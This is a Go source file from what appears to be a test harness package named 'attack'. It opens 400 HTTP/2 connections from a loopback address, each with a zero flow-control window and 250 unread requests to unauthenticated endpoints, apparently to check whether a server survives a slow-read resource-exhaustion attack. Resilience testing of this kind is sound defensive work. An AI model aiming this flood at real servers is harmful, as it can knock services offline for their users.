package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"io"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// The connections of Strangers and their streams.
const (
	StrangeConns   = 400
	StrangeStreams = 250
)

// Strangers asks without a token for what everybody is answered, over HTTP/2 with a window of 0, from an address of its
// own, and reads none of it, until stop is called. A connection that the server closes is opened again, at most once in
// 100 ms.
func Strangers(ctx context.Context, s *Source) (stop func(), err error) {
	config := s.Services.TLS.Clone()
	config.NextProtos = []string{"h2"}
	dialer := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 2)}, Timeout: 5 * time.Second}
	paths := eventsPaths
	if s.Tokens {
		paths = tokenPaths
	}
	ctx, cancel := context.WithCancel(ctx)
	var conns, begun sync.WaitGroup
	begun.Add(StrangeConns)
	for range StrangeConns {
		conns.Go(func() {
			first := sync.OnceFunc(begun.Done)
			defer first()
			for ctx.Err() == nil {
				conn, err := dialer.DialContext(ctx, "tcp", s.addr(false).String())
				if err == nil {
					secure := tls.Client(conn, config)
					end := context.AfterFunc(ctx, func() { _ = conn.Close() })
					err = askUnread(secure, paths)
					first()
					if err == nil {
						_, _ = io.Copy(io.Discard, secure) // control frames only
					}
					end()
					_ = conn.Close()
				}
				first()
				select {
				case <-ctx.Done():
				case <-time.After(100 * time.Millisecond):
				}
			}
		})
	}
	begun.Wait()
	return func() { cancel(); conns.Wait() }, nil
}

// Paths that are answered without a token: with a file, a refusal, keys or a probe.
var (
	eventsPaths = []string{"/console/", "/api/v1/events", "/livez", "/version", "/query/v1/events", "/loki/api/v1/labels", "/nothing", "/.well-known/x"}
	tokenPaths  = []string{"/oauth2/jwks", "/oauth2/token", "/.well-known/oauth-authorization-server", "/.well-known/openid-configuration", "/livez", "/nothing"}
)

// askUnread opens streams, none of which may send data.
func askUnread(conn net.Conn, paths []string) error {
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return err
	}
	var out, block bytes.Buffer
	frames, fields := http2.NewFramer(&out, nil), hpack.NewEncoder(&block)
	if err := frames.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}, http2.Setting{ID: http2.SettingEnablePush, Val: 0}); err != nil {
		return err
	}
	for i := range StrangeStreams {
		block.Reset()
		for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "localhost"}, {":path", paths[i%len(paths)]}} {
			_ = fields.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}) // to memory
		}
		if err := frames.WriteHeaders(http2.HeadersFrameParam{
			StreamID: uint32(2*i + 1), BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true,
		}); err != nil {
			return err
		}
	}
	_, err := conn.Write(out.Bytes())
	return err
}
